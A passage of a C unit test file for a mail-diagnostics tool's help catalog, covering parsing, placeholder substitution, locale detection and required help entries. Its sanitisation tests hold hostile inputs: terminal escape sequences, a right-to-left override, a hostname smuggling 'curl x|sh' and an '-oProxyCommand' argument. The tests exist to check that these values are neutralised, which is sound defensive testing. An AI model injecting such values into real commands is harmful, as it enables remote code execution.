/* check_catalog.c — the help catalog: parser, placeholders, language, and the
 * completeness of the real texts in help/en and help/ja.
 *
 * The completeness suite reads the catalog from $MXDOCTOR_HELP, else from
 * "help" relative to the working directory (the repository root under make).
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <unistr.h>
#include <uniwidth.h>

#include "mxd/catalog.h"
#include "mxd/scenario_error.h"
#include "mxd/steps.h"
#include "mxd/ui.h"

static char err[512];

static mxd_catalog *parse(const char *text)
{
    err[0] = '\0';
    return mxd_catalog_parse(text, strlen(text), "t.cat", err, sizeof err);
}

/* ---- parser --------------------------------------------------------------- */

START_TEST(test_parse_good)
{
    mxd_catalog *c = parse("# a comment\n"
                           "\n"
                           "[smtp.refused]\n"
                           "title: {host} refuses connections\n"
                           "  what  :   spaces around the colon are trimmed   \n"
                           "\t# indented comment\n"
                           "future_field: kept though nobody asks\n"
                           "[b-2.x_y]\n"
                           "text: second: colon in the text stays\n");
    ck_assert_msg(c != NULL, "%s", err);
    ck_assert_uint_eq(mxd_catalog_count(c), 2);
    ck_assert_str_eq(mxd_catalog_key(c, 0), "smtp.refused");
    ck_assert_str_eq(mxd_catalog_key(c, 1), "b-2.x_y");
    ck_assert_ptr_null(mxd_catalog_key(c, 2));
    ck_assert_str_eq(mxd_catalog_get(c, "smtp.refused", "title"), "{host} refuses connections");
    ck_assert_str_eq(mxd_catalog_get(c, "smtp.refused", "what"),
                     "spaces around the colon are trimmed");
    ck_assert_str_eq(mxd_catalog_get(c, "smtp.refused", "future_field"),
                     "kept though nobody asks");
    ck_assert_str_eq(mxd_catalog_get(c, "b-2.x_y", "text"), "second: colon in the text stays");
    ck_assert_ptr_null(mxd_catalog_get(c, "smtp.refused", "why"));
    ck_assert_ptr_null(mxd_catalog_get(c, "nope", "title"));

    const char *name = NULL;
    ck_assert_str_eq(mxd_catalog_field(c, 0, 1, &name), "spaces around the colon are trimmed");
    ck_assert_str_eq(name, "what");
    ck_assert_ptr_null(mxd_catalog_field(c, 0, 3, &name));
    ck_assert_ptr_null(mxd_catalog_field(c, 5, 0, &name));
    mxd_catalog_free(c);
}
END_TEST

/* Each bad input and the "file:LINE: " prefix its error must start with. */
static const struct {
    const char *text;
    const char *prefix;
    const char *words; /* a word the reason must contain */
} bad_cases[] = {
    { "[a]\ntitle: x\n[b]\ntext: y\n[a]\ntitle: z\n", "t.cat:5: ", "duplicate" },
    { "# header\ntitle: no entry yet\n", "t.cat:2: ", "outside" },
    { "[a]\ntitle x\n", "t.cat:2: ", "':'" },
    { "[a]\ntitle: ok\nwhat: bad \xC3\x28 byte\n", "t.cat:3: ", "UTF-8" },
    { "[a]\ntitle: overlong \xC0\xAF slash\n", "t.cat:2: ", "UTF-8" },
    { "[a]\ntitle: surrogate \xED\xA0\x80\n", "t.cat:2: ", "UTF-8" },
    { "[a]\ntitle: escape \x1B[31m red\n", "t.cat:2: ", "control" },
    { "[a]\ntitle: c1 \xC2\x9B control\n", "t.cat:2: ", "control" },
    { "[a]\n[b]\ntitle: x\n", "t.cat:1: ", "no field" },
    { "[a]\ntitle: x\n[last]\n", "t.cat:3: ", "no field" },
    { "[a]\ntitle: x\ntitle: y\n", "t.cat:3: ", "twice" },
    { "[a]\ntitle:\n", "t.cat:2: ", "no text" },
    { "[a]\ntitle:    \n", "t.cat:2: ", "no text" },
    { "[Upper]\ntitle: x\n", "t.cat:1: ", "key" },
    { "[]\ntitle: x\n", "t.cat:1: ", "key" },
    { "[a\ntitle: x\n", "t.cat:1: ", "]" },
    { "[a]\nTi tle: x\n", "t.cat:2: ", "field name" },
    { "[a]\n: x\n", "t.cat:2: ", "field name" },
};

START_TEST(test_parse_errors)
{
    mxd_catalog *c = parse(bad_cases[_i].text);
    ck_assert_msg(c == NULL, "case %d parsed but should fail", _i);
    ck_assert_msg(strncmp(err, bad_cases[_i].prefix, strlen(bad_cases[_i].prefix)) == 0,
                  "case %d: error \"%s\" should start with \"%s\"", _i, err,
                  bad_cases[_i].prefix);
    ck_assert_msg(strstr(err, bad_cases[_i].words) != NULL,
                  "case %d: error \"%s\" should mention \"%s\"", _i, err, bad_cases[_i].words);
}
END_TEST

START_TEST(test_parse_duplicate_names_first)
{
    mxd_catalog *c = parse("[a]\ntitle: x\n\n[a]\ntitle: y\n");
    ck_assert_ptr_null(c);
    ck_assert_str_eq(err, "t.cat:4: duplicate entry [a] (first defined at t.cat:1)");
}
END_TEST

START_TEST(test_parse_nul_byte)
{
    static const char text[] = "[a]\ntitle: x\0y\n";
    mxd_catalog *c = mxd_catalog_parse(text, sizeof text - 1, "n.cat", err, sizeof err);
    ck_assert_ptr_null(c);
    ck_assert_msg(strncmp(err, "n.cat:2: ", 9) == 0, "%s", err);
}
END_TEST

START_TEST(test_parse_empty)
{
    mxd_catalog *c = parse("");
    ck_assert_msg(c != NULL, "%s", err);
    ck_assert_uint_eq(mxd_catalog_count(c), 0);
    ck_assert_ptr_null(mxd_catalog_get(c, "a", "title"));
    mxd_catalog_free(c);

    c = parse("# only comments\n\n   \n");
    ck_assert_msg(c != NULL, "%s", err);
    ck_assert_uint_eq(mxd_catalog_count(c), 0);
    mxd_catalog_free(c);
}
END_TEST

START_TEST(test_parse_escapes)
{
    mxd_catalog *c = parse("[a]\n"
                           "text: line one\\nline two\\n  indented\n"
                           "lit: a \\\\n stays, C:\\Users and \\t too\n"
                           "end: trailing backslash \\\n");
    ck_assert_msg(c != NULL, "%s", err);
    ck_assert_str_eq(mxd_catalog_get(c, "a", "text"), "line one\nline two\n  indented");
    ck_assert_str_eq(mxd_catalog_get(c, "a", "lit"), "a \\n stays, C:\\Users and \\t too");
    ck_assert_str_eq(mxd_catalog_get(c, "a", "end"), "trailing backslash \\");
    mxd_catalog_free(c);
}
END_TEST

START_TEST(test_parse_crlf_and_bom)
{
    mxd_catalog *c = parse("\xEF\xBB\xBF# bom first\r\n"
                           "[a]\r\n"
                           "title: 日本語のタイトル\r\n"
                           "what: two\\nlines\r\n"
                           "\r\n"
                           "[b]\r\n"
                           "text: last line without newline");
    ck_assert_msg(c != NULL, "%s", err);
    ck_assert_uint_eq(mxd_catalog_count(c), 2);
    ck_assert_str_eq(mxd_catalog_get(c, "a", "title"), "日本語のタイトル");
    ck_assert_str_eq(mxd_catalog_get(c, "a", "what"), "two\nlines");
    ck_assert_str_eq(mxd_catalog_get(c, "b", "text"), "last line without newline");

    /* A lone CR inside a line is not a line ending: it is a control character. */
    mxd_catalog *d = parse("[a]\r\ntitle: x\ry\r\n");
    ck_assert_ptr_null(d);
    ck_assert_msg(strncmp(err, "t.cat:2: ", 9) == 0, "%s", err);
    mxd_catalog_free(c);
}
END_TEST

/* ---- loading a folder ------------------------------------------------------- */

static char tmpdir[256];

static void write_file(const char *rel, const char *text)
{
    char p[512];
    snprintf(p, sizeof p, "%s/%s", tmpdir, rel);
    FILE *f = fopen(p, "wb");
    ck_assert_ptr_nonnull(f);
    fputs(text, f);
    fclose(f);
}

static void make_tree(void)
{
    snprintf(tmpdir, sizeof tmpdir, "/tmp/mxd-catalog-XXXXXX");
    ck_assert_ptr_nonnull(mkdtemp(tmpdir));
    char p[512];
    snprintf(p, sizeof p, "%s/en", tmpdir);
    ck_assert_int_eq(mkdir(p, 0700), 0);
    snprintf(p, sizeof p, "%s/ja", tmpdir);
    ck_assert_int_eq(mkdir(p, 0700), 0);
}

static void remove_tree(void)
{
    char cmd[600];
    /* tmpdir is our own mkdtemp() result under /tmp, nothing else. */
    ck_assert(strncmp(tmpdir, "/tmp/mxd-catalog-", 17) == 0);
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmpdir);
    ck_assert_int_eq(system(cmd), 0);
}

START_TEST(test_load_sorted_and_filtered)
{
    make_tree();
    write_file("en/b.cat", "[from.b]\ntitle: B\n");
    write_file("en/a.cat", "[from.a]\ntitle: A\n");
    write_file("en/.hidden.cat", "this would not parse\n");
    write_file("en/notes.txt", "nor would this\n");
    write_file("en/c.cat~", "nor this backup\n");
    mxd_catalog *c = mxd_catalog_load(tmpdir, MXD_LANG_EN, err, sizeof err);
    ck_assert_msg(c != NULL, "%s", err);
    ck_assert_uint_eq(mxd_catalog_count(c), 2);
    ck_assert_str_eq(mxd_catalog_key(c, 0), "from.a"); /* a.cat before b.cat */
    ck_assert_str_eq(mxd_catalog_key(c, 1), "from.b");
    ck_assert_str_eq(mxd_catalog_get(c, "from.b", "title"), "B");
    mxd_catalog_free(c);

    /* A key may appear once per language, across files too. */
    write_file("en/c.cat", "\n[from.a]\ntitle: again\n");
    c = mxd_catalog_load(tmpdir, MXD_LANG_EN, err, sizeof err);
    ck_assert_ptr_null(c);
    ck_assert_msg(strstr(err, "/en/c.cat:2: duplicate entry [from.a]") != NULL, "%s", err);
    ck_assert_msg(strstr(err, "/en/a.cat:1)") != NULL, "%s", err);

    /* An error in a later file names that file and line. */
    write_file("en/c.cat", "[from.c]\ntitle: ok\nbroken line\n");
    c = mxd_catalog_load(tmpdir, MXD_LANG_EN, err, sizeof err);
    ck_assert_ptr_null(c);
    ck_assert_msg(strstr(err, "/en/c.cat:3: ") != NULL, "%s", err);

    /* ja/ exists but is empty; a missing folder is an error too. */
    c = mxd_catalog_load(tmpdir, MXD_LANG_JA, err, sizeof err);
    ck_assert_ptr_null(c);
    ck_assert_msg(strstr(err, "no .cat file") != NULL, "%s", err);
    c = mxd_catalog_load("/nonexistent-mxd", MXD_LANG_EN, err, sizeof err);
    ck_assert_ptr_null(c);
    ck_assert_msg(strncmp(err, "/nonexistent-mxd/en: ", 21) == 0, "%s", err);
    remove_tree();
}
END_TEST

START_TEST(test_help_dir_env)
{
    char *saved = getenv("MXDOCTOR_HELP") ? strdup(getenv("MXDOCTOR_HELP")) : NULL;
    make_tree();
    setenv("MXDOCTOR_HELP", tmpdir, 1);
    const char *d = mxd_help_dir();
    ck_assert_ptr_nonnull(d);
    ck_assert_str_eq(d, tmpdir);

    /* A folder without en/ does not count: the search goes on past it. */
    char p[512];
    snprintf(p, sizeof p, "%s/ja", tmpdir);
    setenv("MXDOCTOR_HELP", p, 1);
    d = mxd_help_dir();
    ck_assert(d == NULL || strcmp(d, p) != 0);

    remove_tree();
    if (saved) {
        setenv("MXDOCTOR_HELP", saved, 1);
        free(saved);
    } else {
        unsetenv("MXDOCTOR_HELP");
    }
}
END_TEST

/* ---- format ---------------------------------------------------------------- */

START_TEST(test_format)
{
    mxd_catalog *c = parse("[smtp.refused]\n"
                           "title: {host} refuses port {port}; again {host}\n"
                           "what: {unknown} and {Host} and { host} and {} and {host stay\n"
                           "next: no placeholders\\nat all\n");
    ck_assert_msg(c != NULL, "%s", err);
    mxd_param ps[] = { { "host", "mx1.example.jp" }, { "port", "25" } };

    char *s = mxd_catalog_format(c, "smtp.refused", "title", ps, 2);
    ck_assert_str_eq(s, "mx1.example.jp refuses port 25; again mx1.example.jp");
    free(s);

    s = mxd_catalog_format(c, "smtp.refused", "what", ps, 2);
    ck_assert_str_eq(s, "{unknown} and {Host} and { host} and {} and {host stay");
    free(s);

    s = mxd_catalog_format(c, "smtp.refused", "next", NULL, 0);
    ck_assert_str_eq(s, "no placeholders\nat all");
    free(s);

    s = mxd_catalog_format(c, "smtp.refused", "title", NULL, 0);
    ck_assert_str_eq(s, "{host} refuses port {port}; again {host}");
    free(s);

    s = mxd_catalog_format(c, "smtp.missing", "title", ps, 2);
    ck_assert_str_eq(s, "[smtp.missing.title]");
    free(s);
    s = mxd_catalog_format(c, "smtp.refused", "why", ps, 2);
    ck_assert_str_eq(s, "[smtp.refused.why]");
    free(s);
    s = mxd_catalog_format(NULL, "x.y", "text", NULL, 0);
    ck_assert_str_eq(s, "[x.y.text]");
    free(s);
    mxd_catalog_free(c);
}
END_TEST

START_TEST(test_format_sanitises_params)
{
    mxd_catalog *c = parse("[smtp.greeting_reject]\ntitle: said: {text}.\n");
    ck_assert_msg(c != NULL, "%s", err);
    /* A hostile greeting: clear the screen, set the title, hide text with a
     * right-to-left override. Built by hand, not through mxd_finding_param(). */
    mxd_param ps[] = { { "text", "554 \x1B[2J\x1B]0;pwned\x07 ok\xE2\x80\xAE gpj.exe\r\n" } };
    char *s = mxd_catalog_format(c, "smtp.greeting_reject", "title", ps, 1);
    ck_assert_ptr_nonnull(s);
    for (const char *p = s; *p; p++)
        ck_assert_msg((unsigned char)*p >= 0x20, "control byte 0x%02X in \"%s\"",
                      (unsigned char)*p, s);
    ck_assert_ptr_null(strstr(s, "\xE2\x80\xAE"));
    ck_assert_ptr_nonnull(strstr(s, "\\x1B[2J"));
    ck_assert_ptr_nonnull(strstr(s, "<U+202E>"));
    ck_assert(strncmp(s, "said: 554 ", 10) == 0);
    ck_assert(s[strlen(s) - 1] == '.');
    free(s);
    mxd_catalog_free(c);
}
END_TEST

/* ---- language ---------------------------------------------------------------- */

static void set_locale_env(const char *all, const char *messages, const char *lang)
{
    if (all) setenv("LC_ALL", all, 1); else unsetenv("LC_ALL");
    if (messages) setenv("LC_MESSAGES", messages, 1); else unsetenv("LC_MESSAGES");
    if (lang) setenv("LANG", lang, 1); else unsetenv("LANG");
}

START_TEST(test_format_command_lines_refuse_unsafe_names)
{
    mxd_catalog *c = parse("[k]\nnext: Ask {host} to fix it. Then run:\\n  nslookup {host}\\n  dig MX {host}\n");
    ck_assert_msg(c != NULL, "%s", err);
    mxd_param evil = { "host", "mx.evil.example;curl x|sh" };
    char *out = mxd_catalog_format(c, "k", "next", &evil, 1);
    /* prose may name it (sanitised); a command line may not carry it */
    ck_assert_str_eq(out, "Ask mx.evil.example;curl x|sh to fix it. Then run:\n  nslookup UNSAFE-NAME\n  dig MX UNSAFE-NAME");
    free(out);
    mxd_param good = { "host", "mx1.example.jp" };
    out = mxd_catalog_format(c, "k", "next", &good, 1);
    ck_assert_str_eq(out, "Ask mx1.example.jp to fix it. Then run:\n  nslookup mx1.example.jp\n  dig MX mx1.example.jp");
    free(out);
    mxd_param idn = { "host", "例え.jp" };
    out = mxd_catalog_format(c, "k", "next", &idn, 1);
    ck_assert_str_eq(out, "Ask 例え.jp to fix it. Then run:\n  nslookup xn--r8jz45g.jp\n  dig MX xn--r8jz45g.jp");
    free(out);
    mxd_param dash = { "host", "-oProxyCommand=x" };
    out = mxd_catalog_format(c, "k", "next", &dash, 1);
    ck_assert_ptr_nonnull(strstr(out, "nslookup UNSAFE-NAME"));
    free(out);
    mxd_catalog_free(c);
}
END_TEST

START_TEST(test_lang_from_env)
{
    set_locale_env(NULL, NULL, NULL);
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_EN);
    set_locale_env(NULL, NULL, "ja_JP.UTF-8");
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_JA);
    set_locale_env(NULL, "en_US.UTF-8", "ja_JP.UTF-8");
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_EN);
    set_locale_env("ja_JP.UTF-8", "en_US.UTF-8", "C");
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_JA);
    set_locale_env("C.UTF-8", NULL, "ja_JP.UTF-8");
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_EN);
    /* Empty values do not count: the next variable decides. */
    set_locale_env("", "", "ja");
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_JA);
    set_locale_env("", "ja_JP.eucJP", "en_GB.UTF-8");
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_JA);
    set_locale_env(NULL, NULL, "jv_ID.UTF-8"); /* Javanese is not "ja" */
    ck_assert_int_eq(mxd_lang_from_env(), MXD_LANG_EN);
}
END_TEST

START_TEST(test_lang_parse)
{
    mxd_lang l = MXD_LANG_EN;
    ck_assert(mxd_lang_parse("ja", &l));
    ck_assert_int_eq(l, MXD_LANG_JA);
    ck_assert(mxd_lang_parse("en", &l));
    ck_assert_int_eq(l, MXD_LANG_EN);
    l = MXD_LANG_JA;
    ck_assert(!mxd_lang_parse("fr", &l));
    ck_assert(!mxd_lang_parse("", &l));
    ck_assert(!mxd_lang_parse("jap", &l));
    ck_assert(!mxd_lang_parse(NULL, &l));
    ck_assert_int_eq(l, MXD_LANG_JA); /* untouched on failure */
    ck_assert_str_eq(mxd_lang_code(MXD_LANG_EN), "en");
    ck_assert_str_eq(mxd_lang_code(MXD_LANG_JA), "ja");
}
END_TEST

/* ---- the real texts ----------------------------------------------------------- */

/* The parameters each check sets, exactly (see the checks). A text may use any
 * subset of its finding's list and nothing else. */
static const struct {
    const char *id;
    const char *params;
} finding_params[] = {
    { "mx.found", "domain count hosts ttl" },
    { "mx.single", "domain host" },
    { "mx.equal_preference", "pref hosts" },
    { "mx.nxdomain", "domain" },
    { "mx.none_implicit", "domain addresses" },
    { "mx.none_no_address", "domain" },
    { "mx.null", "domain" },
    { "mx.null_mixed", "domain hosts" },
    { "dns.error", "domain name type error resolver" },
    { "target.ok", "host addresses" },
    { "target.cname", "host cname" },
    { "target.ip_literal", "host" },
    { "target.no_address", "host reason" },
    { "target.private", "host address" },
    { "target.duplicate", "host prefs" },
    { "target.dns_error", "host error" },
    { "auth.consistent", "domain zone count hosts serial" },
    { "auth.mismatch", "domain zone count sets" },
    { "auth.serial_mismatch", "zone serials newest serial" },
    { "auth.unreachable", "server address zone reason" },
    { "auth.lame", "server address zone reason" },
    { "auth.zone_unknown", "domain error" },
    { "cache.ttl", "domain ttl duration" },
    { "cache.stale", "resolver domain hosts auth_hosts ttl duration expires" },
    { "cache.negative", "resolver domain hosts neg_ttl soa_minimum soa_ttl ttl duration expires" },
    { "resolver.disagree", "domain count answers" },
    { "smtp.ok", "host address greeting tls_version" },
    { "smtp.refused", "host address port" },
    { "smtp.timeout", "host address port seconds stage" },
    { "smtp.unreachable", "host address error" },
    { "smtp.closed", "host address stage" },
    { "smtp.protocol_error", "host address error" },
    { "smtp.greeting_reject", "host address code text" },
    { "smtp.greeting_tempfail", "host address code text" },
    { "smtp.no_starttls", "host address" },
    { "smtp.tls_failed", "host address error" },
    { "smtp.cert_untrusted", "host address error issuer" },
    { "smtp.cert_name_mismatch", "host address names" },
    { "smtp.cert_expired", "host address not_after" },
    { "smtp.starttls_injection", "host address bytes" },
    { "smtp.primary_down", "primary backup" },
    { "smtp.all_down", "domain count" },
    { "smtp.port25_blocked_suspected", "domain port count" },
    { "smtp.skipped", "host address reason" },
    { "dmarc.ok", "domain name record policy pct subdomain_policy" },
    { "dmarc.missing", "domain names" },
    { "dmarc.invalid", "domain name record tag value" },
    { "dmarc.policy_none", "domain name record" },
    { "dmarc.multiple", "domain name count records" },
    { "dmarc.rua_unauthorized", "domain uri rua_domain name" },
    { "dkim.found", "selector name key_type bits" },
    { "dkim.not_found", "domain selectors" },
    { "dkim.weak_key", "selector name bits" },
    { "dkim.revoked", "selector name" },
    { "dkim.invalid", "selector name error key_type" },
    { "ptr.ok", "host address ptr" },
    { "ptr.missing", "host address name" },
    { "ptr.mismatch", "host address ptr forward" },
    { "tlsrpt.ok", "domain name rua" },
    { "tlsrpt.missing", "domain name records" },
    { "dane.present", "host name count records dnssec reason" },
    { "dane.match", "host name records addresses" },
    { "dane.mismatch", "host name records address publish names" },
    { "dane.no_starttls", "host name records address reason" },
    { "dane.unusable", "host name records count" },
    { "policy.dns_error", "domain names error count" },
    { "spf.ok", "domain record lookups voids" },
    { "spf.missing", "domain" },
    { "spf.multiple", "domain where count" },
    { "spf.syntax", "domain where term column reason" },
    { "spf.too_many_lookups", "domain count term where via" },
    { "spf.void_lookups", "domain count terms" },
    { "spf.plus_all", "domain term where" },
    { "spf.include_none", "domain target term where" },
    { "spf.loop", "domain term where" },
    { "spf.mx_limit", "domain term where count" },
    { "spf.ptr", "domain term where" },
    { "spf.dns_error", "domain name type error" },
    { "spf.result", "ip sender domain result mechanism where explanation" },
    { "mta_sts.ok", "domain max_age days patterns count" },
    { "mta_sts.missing", "domain record" },
    { "mta_sts.dns_error", "domain record error" },
    { "mta_sts.record_invalid", "domain record text problem" },
    { "mta_sts.skipped", "domain host address reason" },
    { "mta_sts.fetch_failed", "domain host url problem" },
    { "mta_sts.invalid", "domain url problem" },
    { "mta_sts.mode_none", "domain url" },
    { "mta_sts.testing", "domain max_age days patterns" },
    { "mta_sts.mx_not_covered", "domain host mode patterns url" },
    { "delivery.path", "domain host address path conclusion" },
    { "delivery.path_backup", "domain primary host address path conclusion" },
    { "delivery.path_fails", "domain count path conclusion" },
    { "delivery.path_null", "domain conclusion" },
    { "delivery.path_untested", "domain reason path conclusion" },
    { "network.ok", "host address port" },
    { "network.port25_blocked", "domain port count evidence submission probe" },
    { "network.servers_down", "domain port count basis probe" },
    { "network.undetermined", "domain port count ports" },
    { "rcpt.accepted", "rcpt host address code enhanced text" },
    { "rcpt.rejected", "rcpt host address code enhanced text stage bounce" },
    { "rcpt.tempfail", "rcpt host address code enhanced text stage bounce" },
    { "rcpt.failed", "rcpt host address stage reason detail" },
    { "rcpt.skipped", "rcpt reason" },
    { "send.accepted", "from to id host address code enhanced text" },
    { "send.rejected", "from to id host address code enhanced text stage bounce" },
    { "send.tempfail", "from to id host address code enhanced text stage bounce" },
    { "send.failed", "from to id host address stage reason detail" },
    { "send.skipped", "from to id reason" },
    { "bounce.2", "code enhanced recipient server_text mta" },
    { "bounce.4", "code enhanced recipient server_text mta" },
    { "bounce.5", "code enhanced recipient server_text mta" },
    { "bounce.4.0", "code enhanced recipient server_text mta" },
    { "bounce.4.1", "code enhanced recipient server_text mta" },
    { "bounce.4.2", "code enhanced recipient server_text mta" },
    { "bounce.4.3", "code enhanced recipient server_text mta" },
    { "bounce.4.4", "code enhanced recipient server_text mta" },
    { "bounce.4.5", "code enhanced recipient server_text mta" },
    { "bounce.4.6", "code enhanced recipient server_text mta" },
    { "bounce.4.7", "code enhanced recipient server_text mta" },
    { "bounce.5.0", "code enhanced recipient server_text mta" },
    { "bounce.5.1", "code enhanced recipient server_text mta" },
    { "bounce.5.2", "code enhanced recipient server_text mta" },
    { "bounce.5.3", "code enhanced recipient server_text mta" },
    { "bounce.5.4", "code enhanced recipient server_text mta" },
    { "bounce.5.5", "code enhanced recipient server_text mta" },
    { "bounce.5.6", "code enhanced recipient server_text mta" },
    { "bounce.5.7", "code enhanced recipient server_text mta" },
    { "bounce.4.1.8", "code enhanced recipient server_text mta" },
    { "bounce.4.2.2", "code enhanced recipient server_text mta" },
    { "bounce.4.4.1", "code enhanced recipient server_text mta" },
    { "bounce.4.4.2", "code enhanced recipient server_text mta" },
    { "bounce.4.4.3", "code enhanced recipient server_text mta" },
    { "bounce.4.4.7", "code enhanced recipient server_text mta" },
    { "bounce.4.7.0", "code enhanced recipient server_text mta" },
    { "bounce.4.7.1", "code enhanced recipient server_text mta" },
    { "bounce.4.7.25", "code enhanced recipient server_text mta" },
    { "bounce.4.7.28", "code enhanced recipient server_text mta" },
    { "bounce.5.1.1", "code enhanced recipient server_text mta" },
    { "bounce.5.1.2", "code enhanced recipient server_text mta" },
    { "bounce.5.1.3", "code enhanced recipient server_text mta" },
    { "bounce.5.1.6", "code enhanced recipient server_text mta" },
    { "bounce.5.1.8", "code enhanced recipient server_text mta" },
    { "bounce.5.1.10", "code enhanced recipient server_text mta" },
    { "bounce.5.2.1", "code enhanced recipient server_text mta" },
    { "bounce.5.2.2", "code enhanced recipient server_text mta" },
    { "bounce.5.2.3", "code enhanced recipient server_text mta" },
    { "bounce.5.3.4", "code enhanced recipient server_text mta" },
    { "bounce.5.4.1", "code enhanced recipient server_text mta" },
    { "bounce.5.4.4", "code enhanced recipient server_text mta" },
    { "bounce.5.4.6", "code enhanced recipient server_text mta" },
    { "bounce.5.4.7", "code enhanced recipient server_text mta" },
    { "bounce.5.5.1", "code enhanced recipient server_text mta" },
    { "bounce.5.7.0", "code enhanced recipient server_text mta" },
    { "bounce.5.7.1", "code enhanced recipient server_text mta" },
    { "bounce.5.7.8", "code enhanced recipient server_text mta" },
    { "bounce.5.7.23", "code enhanced recipient server_text mta" },
    { "bounce.5.7.25", "code enhanced recipient server_text mta" },
    { "bounce.5.7.26", "code enhanced recipient server_text mta" },
    { "bounce.5.7.27", "code enhanced recipient server_text mta" },
    { "bounce.local.timeout", "code enhanced recipient server_text mta" },
    { "bounce.local.refused", "code enhanced recipient server_text mta" },
    { "bounce.local.no_route", "code enhanced recipient server_text mta" },
    { "bounce.local.lost_connection", "code enhanced recipient server_text mta" },
    { "bounce.local.tls", "code enhanced recipient server_text mta" },
    { "bounce.local.host_not_found", "code enhanced recipient server_text mta" },
    { "bounce.local.dns_tempfail", "code enhanced recipient server_text mta" },
    { "bounce.local.no_address", "code enhanced recipient server_text mta" },
    { "bounce.local.loop", "code enhanced recipient server_text mta" },
    { "bounce.local.expired", "code enhanced recipient server_text mta" },
};
static const size_t n_finding_params = sizeof finding_params / sizeof finding_params[0];

/* Other keys that take parameters; every other non-finding key takes none. */
static const struct {
    const char *prefix; /* exact key, or a prefix ending in '.' */
    const char *params;
} other_params[] = {
    { "msg.input.", "input detail" },
    { "msg.bad_option", "option" },
    { "msg.bad_format", "value" },
    { "msg.bad_lang", "value" },
    { "msg.bad_timeout", "value" },
    { "msg.bad_port", "value" },
    { "msg.bad_resolver", "value" },
    { "msg.bad_spf_ip", "value" },
    { "msg.bad_jobs", "value" },
    { "msg.batch_open", "value" },
    { "msg.bad_spf_sender", "value" },
    { "msg.bad_ca_file", "value" },
    { "msg.lab_unknown", "value" },
    { "msg.lab_skipped", "count error" },
};

/* The wizard's sentences ("msg.ui.<name>") and the placeholders it fills: the
 * same list the wizard is built from (MXD_UI_TEXTS in mxd/ui.h), so this test
 * cannot drift from the code. */
static const struct {
    const char *name;
    const char *params;
} ui_texts[] = {
#define UI_TEXT_ROW(id, name, params) { name, params },
    MXD_UI_TEXTS(UI_TEXT_ROW)
#undef UI_TEXT_ROW
};
static const size_t n_ui_texts = sizeof ui_texts / sizeof ui_texts[0];

/* The scenario parser's errors ("scn.err.<name>") and their placeholders: the
 * list the parser is built from (MXD_SCN_ERRORS in mxd/scenario_error.h). The
 * words they name ("scn.what.*", "scn.why.*", "scn.form.*") take none. */
static const struct {
    const char *name;
    const char *params;
} scn_errors[] = {
#define SCN_ERR_ROW(id, name, params) { name, params },
    MXD_SCN_ERRORS(SCN_ERR_ROW)
#undef SCN_ERR_ROW
};
static const size_t n_scn_errors = sizeof scn_errors / sizeof scn_errors[0];
static const char *const scn_terms[] = {
#define SCN_TERM_ROW(id, name) name,
    MXD_SCN_TERMS(SCN_TERM_ROW)
#undef SCN_TERM_ROW
};
static const size_t n_scn_terms = sizeof scn_terms / sizeof scn_terms[0];

static const char *const required_msgs[] = {
    "msg.input.empty", "msg.input.too_long", "msg.input.label_too_long",
    "msg.input.empty_label", "msg.input.bad_char", "msg.input.ip_address",
    "msg.input.single_label", "msg.input.no_domain", "msg.input.idn_invalid",
    "msg.usage", "msg.help_intro", "msg.bad_option", "msg.bad_format", "msg.bad_lang",
    "msg.bad_timeout", "msg.bad_port", "msg.bad_resolver", "msg.no_domain_given",
    "msg.no_terminal", "msg.help_not_found", "report.domain", "report.domain_ascii",
    "report.verdict", "report.started", "report.elapsed", "report.resolvers",
    "report.mx_table", "report.preference", "report.host", "report.addresses", "report.ttl",
    "report.smtp", "report.step", "report.findings", "report.next", "report.commands",
    "report.no_findings", "report.why", "report.what", "report.order_note",
    "report.implicit_note",
};

static const char *const required_glossary[] = {
    "mx", "preference", "ttl", "authoritative", "resolver", "propagation", "a_record", "aaaa",
    "cname", "ptr", "smtp", "starttls", "tls_certificate", "spf", "dkim", "dmarc", "bounce",
    "op25b", "submission", "null_mx", "implicit_mx", "nxdomain",
};

static const char *const finding_fields[] = { "title", "what", "why", "next" };

static mxd_catalog *cats[MXD_LANG_COUNT];

static void load_real(void)
{
    const char *dir = getenv("MXDOCTOR_HELP");
    if (!dir || !*dir)
        dir = "help";
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        cats[l] = mxd_catalog_load(dir, (mxd_lang)l, err, sizeof err);
        ck_assert_msg(cats[l] != NULL, "%s: %s", mxd_lang_code((mxd_lang)l), err);
    }
}

static void free_real(void)
{
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        mxd_catalog_free(cats[l]);
        cats[l] = NULL;
    }
}

/* True when name (len bytes) is one of the space-separated words in list. */
static bool in_list(const char *list, const char *name, size_t len)
{
    for (const char *p = list; *p;) {
        while (*p == ' ')
            p++;
        size_t n = strcspn(p, " ");
        if (n == len && memcmp(p, name, len) == 0)
            return true;
        p += n;
    }
    return false;
}

static bool is_ph_char(char ch)
{
    return (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9') || ch == '_';
}

/* Checks every {placeholder} in text against allowed; returns how many it saw. */
static int check_placeholders(const char *lang, const char *key, const char *field,
                              const char *text, const char *allowed)
{
    int seen = 0;
    for (const char *p = strchr(text, '{'); p; p = strchr(p + 1, '{')) {
        size_t n = 1;
        while (is_ph_char(p[n]))
            n++;
        if (n == 1 || p[n] != '}')
            continue;
        ck_assert_msg(in_list(allowed, p + 1, n - 1),
                      "%s [%s] %s uses {%.*s}, allowed: %s", lang, key, field, (int)(n - 1),
                      p + 1, *allowed ? allowed : "(none)");
        seen++;
    }
    return seen;
}

static const char *allowed_for(const char *key)
{
    for (size_t i = 0; i < n_finding_params; i++)
        if (strcmp(finding_params[i].id, key) == 0)
            return finding_params[i].params;
    for (size_t i = 0; i < sizeof other_params / sizeof other_params[0]; i++) {
        const char *pre = other_params[i].prefix;
        size_t n = strlen(pre);
        if (pre[n - 1] == '.' ? strncmp(key, pre, n) == 0 : strcmp(key, pre) == 0)
            return other_params[i].params;
    }
    if (strncmp(key, "msg.ui.", 7) == 0)
